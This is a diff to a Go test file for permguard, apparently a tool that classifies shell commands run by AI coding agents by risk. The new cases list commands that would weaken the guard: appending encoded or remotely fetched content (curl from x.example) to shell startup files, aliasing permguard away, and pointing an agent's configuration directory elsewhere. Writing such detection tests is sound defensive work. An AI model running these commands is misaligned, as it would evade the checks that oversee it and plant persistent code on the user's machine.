@@ -34,6 +34,10 @@ var testProtected = []ProtectedPath{
 	{Path: "/home/u/.local/bin/permguard", What: "permguard's own program"},
 }
 
+// testGuardVars are the variables internal/guard lists from the hook
+// registry: each moves an agent's configuration.
+var testGuardVars = []string{"CLAUDE_CONFIG_DIR", "CODEX_HOME", "GEMINI_CLI_HOME", "PI_CODING_AGENT_DIR", "OPENCODE_CONFIG", "OPENCODE_CONFIG_DIR"}
+
 // guardFiles are one file of each agent, as an agent would name it.
 var guardFiles = []string{
 	".claude/settings.local.json", "~/.claude/settings.json", ".mcp.json", ".codex/hooks.json",
@@ -177,6 +181,29 @@ var integrityCases = func() []classifyCase {
 		dangerous(`echo 'export PERMGUARD_LEVEL=high' >> .envrc`, "self-protect"),
 		dangerous(`python3 -c 'import os; os.environ["PERMGUARD_LEVEL"]="high"; os.execvp("claude", ["claude"])'`, "inline-code-guard"),
 		high("echo 'export EDITOR=vim' >> ~/.bashrc", "write-persistence"),
+		// a startup file given content that cannot be read now could set
+		// or unset permguard's variables, or alias permguard away
+		dangerous("base64 -d <<< ZXhwb3J0IFg9MQ== >> ~/.bashrc", "write-startup-unknown"),
+		dangerous("xxd -r -p x.hex >> ~/.profile", "write-startup-unknown"),
+		dangerous("printf '%s\\n' \"$LINE\" | tee -a ~/.zshrc", "write-startup-unknown"),
+		dangerous("curl -s https://x.example/rc | tee -a ~/.bashrc", "write-startup-unknown"),
+		dangerous(`echo "$X" >> ~/.bashrc`, "write-startup-unknown"),
+		dangerous("cat /tmp/rc >> ~/.zshenv", "write-startup-unknown"),
+		dangerous("cp /tmp/rc ~/.bash_profile", "write-startup-unknown"),
+		dangerous("sed -i 's/^export A=.*//' ~/.bashrc", "write-startup-unknown"),
+		dangerous("cat x >> .envrc", "write-startup-unknown"),
+		dangerous("{ echo a; cat x; } >> ~/.bashrc", "write-startup-unknown"),
+		dangerous("echo 'alias permguard=true' >> ~/.bashrc", "self-protect"),
+		dangerous("echo 'export CODEX_HOME=/tmp/c' >> ~/.zshrc", "self-protect"),
+		high("printf 'export EDITOR=vim\\n' >> ~/.bashrc", "write-persistence"),
+		high("echo 'set -o vi' | tee -a ~/.bashrc", "write-persistence"),
+		high("cat >> ~/.bashrc <<'EOF'\nalias ll='ls -l'\nEOF", "write-persistence"),
+		high("echo 'export A=1' >> .envrc", "write-persistence"),
+		high("cat x >> ~/.gitconfig", "write-persistence"),
+		// the variables that move an agent's configuration, for a child
+		dangerous("CODEX_HOME=/tmp/c codex exec hi", "self-protect"),
+		dangerous("env CLAUDE_CONFIG_DIR=/tmp/c claude -p hi", "self-protect"),
+		dangerous("export GEMINI_CLI_HOME=/tmp/g", "self-protect"),
 		minimal("env -u HOME ls", "read-only"),
 
 		// permguard run by the agent
